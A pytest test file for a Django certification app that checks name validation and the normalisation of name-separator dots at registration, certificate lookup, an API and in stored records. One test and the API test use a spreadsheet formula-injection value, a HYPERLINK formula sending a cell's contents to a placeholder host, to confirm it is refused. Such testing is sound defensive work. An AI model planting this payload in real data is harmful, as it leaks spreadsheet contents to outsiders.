"""Names at the entry points: registration, certificate verification, the API, stored data."""

from __future__ import annotations

import pytest

from zhicheng.accounts.identifiers import stored_names_normalise
from zhicheng.accounts.models import User
from zhicheng.audit.models import AuditEvent
from zhicheng.certificates.models import Certificate

pytestmark = pytest.mark.django_db

REGISTER = "/accounts/register/"
VERIFY = "/certificates/verify/"


def test_registration_stores_u00b7_and_refuses_digits(client, new_person):
    new_person["real_name"] = "Zhang San 123"
    response = client.post(REGISTER, new_person)
    assert "姓名不能包含数字" in response.context["form"].errors["real_name"][0]
    assert 'value="Zhang San 123"' in response.content.decode()  # what was typed is kept
    new_person["real_name"] = "阿依古丽.买买提"
    assert client.post(REGISTER, new_person).status_code == 302
    assert User.objects.filter(real_name="阿依古丽·买买提").exists()


def test_registration_refuses_a_formula_name(client, new_person):
    new_person["real_name"] = '=HYPERLINK("http://x.example/?"&B2,"张三")'
    response = client.post(REGISTER, new_person)
    assert "开头" in response.context["form"].errors["real_name"][0]
    assert not User.objects.filter(real_name__startswith="=").exists()


@pytest.mark.parametrize(
    "typed", ["古丽米热•艾比布力", "古丽米热．艾比布力", "古丽米热・艾比布力", "古丽米热.艾比布力"]
)
def test_certificate_is_found_whichever_dot_is_typed(client, cast, typed):
    from zhicheng.certificates.tests.conftest import issue

    holder = cast["applicant_c"]
    User.objects.filter(pk=holder.pk).update(real_name="古丽米热·艾比布力")
    holder.refresh_from_db()
    cert = issue(holder)
    assert cert.holder_name == "古丽米热·艾比布力"
    html = client.post(VERIFY, {"number": cert.number, "holder_name": typed}).content.decode()
    assert 'id="verify-status"' in html and "未查询到匹配的证书" not in html


def test_api_refuses_a_name_with_digits_and_normalises_dots(client):
    from tests.world.exchange import API_TOKEN, exchange_system_load
    from zhicheng.exchange.tests.conftest import Api, holder

    exchange_system_load()
    api = Api(client, API_TOKEN)
    response = api.post("/numbers/allocate", {"holders": [holder(0, name="Zhang San 123")]})
    assert response.status_code == 422
    body = response.json()
    assert body["code"] == "invalid_name" and body["details"]["field"] == "name"
    response = api.post("/numbers/allocate", {"holders": [holder(0, name="=HYPERLINK(\"x\")")]})
    assert response.json()["code"] == "invalid_name"
    assert api.post("/numbers/allocate", {"holders": [holder(0, name="古丽米热•艾比布力")]}).status_code == 200
    assert Certificate.objects.filter(holder_name="古丽米热·艾比布力").exists()


def test_stored_names_are_normalised_with_the_original_audited(cast):
    holder = cast["applicant_c"]
    User.objects.filter(pk=holder.pk).update(real_name="阿依古丽.买买提")
    assert stored_names_normalise() >= 1
    holder.refresh_from_db()
    assert holder.real_name == "阿依古丽·买买提"
    event = AuditEvent.objects.get(action="name.normalised", object_id=str(holder.pk))
    assert event.detail["original"] == "阿依古丽.买买提"
